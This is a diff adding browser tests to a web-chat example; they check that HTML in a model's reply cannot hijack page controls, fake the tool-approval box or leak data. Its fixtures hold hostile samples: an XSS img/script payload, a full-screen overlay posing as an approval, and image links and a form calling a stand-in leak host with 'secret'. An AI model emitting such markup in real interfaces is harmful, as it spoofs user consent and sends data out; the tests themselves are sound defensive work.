@@ -30,6 +30,14 @@ const markdownReply = [
   '',
   'A picture: <img src="x" onerror="window.__xss = 1"> <script>window.__xss = 2</script> Done.',
 ].join('\n');
+/** What a hostile (or prompt-injected) model may write: HTML that reuses the page's own ids and
+ * classes, overlays the page, loads remote images, and pre-empts its own tool call's approval box. */
+const hostileReply = [
+  'Hello <span id="status">idle</span> <button id="stop" disabled>Stop</button> <input id="prompt">',
+  '<div style="position:fixed;inset:0;background:red" class="approval" data-call="call_h">Approved.</div>',
+  '![chart](http://127.0.0.2:9/leak?q=secret) <img src="http://127.0.0.2:9/leak2">',
+  '<form action="http://127.0.0.2:9/"><button>Go</button></form> [docs](https://example.com/docs)',
+];
 
 /** A fake OpenAI server: asked to email someone it calls send_email; else it streams the story. */
 function fakeOpenAI(): Promise<TranscriptServer> {
@@ -37,6 +45,13 @@ function fakeOpenAI(): Promise<TranscriptServer> {
     const { messages } = request.json as { messages: { role: string; content: unknown }[] };
     const last = messages.at(-1);
     if (last?.role === 'tool') return { chunks: openaiFrames({ text: pieces(reply) }), delayMs: 20 };
+    if (typeof last?.content === 'string' && /hostile/.test(last.content))
+      return {
+        chunks: openaiFrames({
+          text: hostileReply,
+          toolCalls: [{ id: 'call_h', name: 'send_email', arguments: '{"to":"Dan","subject":"Hi"}' }],
+        }),
+      };
     const to = typeof last?.content === 'string' ? /email (\S+)/i.exec(last.content)?.[1] : undefined;
     if (to) {
       return {
@@ -331,6 +346,47 @@ describe.skipIf(!existsSync(chromiumPath))('examples/web-chat in Chromium', () =
     );
     expect(seen).toContain(message);
   }, 60_000);
+
+  describe('a hostile model writing HTML', () => {
+    let hostile: Page;
+    const away: string[] = [];
+    beforeAll(async () => {
+      hostile = await browser.newPage({ viewport: { width: 900, height: 700 } });
+      hostile.on('request', (request) => {
+        if (!request.url().startsWith(proxy.url)) away.push(request.url());
+      });
+      await hostile.goto(proxy.url);
+      await hostile.fill('footer input', 'a hostile reply');
+      await hostile.press('footer input', 'Enter');
+      await hostile.locator('.assistant .text', { hasText: 'Hello' }).waitFor();
+    }, 60_000);
+    afterAll(() => hostile?.close());
+
+    it("cannot take over the page's controls or fake its approval box", async () => {
+      // The real approval box of call_h appears, although the model wrote a fake one first.
+      await hostile.locator('.approval button.reject').click({ timeout: 15_000 });
+      await hostile.waitForFunction(
+        () => document.querySelector('footer div')?.textContent === 'done',
+        null,
+        {
+          timeout: 15_000,
+        },
+      );
+      expect(await hostile.locator('footer button', { hasText: 'Stop' }).isDisabled()).toBe(true);
+      const text = hostile.locator('.assistant .text');
+      expect(await text.locator('[id], [style], [class], [data-call], button, input, form').count()).toBe(0);
+      // The composer still sends.
+      await hostile.fill('footer input', 'one more story');
+      await hostile.press('footer input', 'Enter');
+      await hostile.locator('.user', { hasText: 'one more story' }).waitFor({ timeout: 5_000 });
+      await hostile.click('footer button:has-text("Stop")');
+      await hostile.waitForFunction(
+        () => document.querySelector('footer div')?.textContent === 'stopped',
+        null,
+        { timeout: 15_000 },
+      );
+    }, 60_000);
+  });
 
   it('works at phone width: the arguments to approve wrap, nothing overflows, Approve and Stop are in reach', async () => {
     const phone = await browser.newContext({
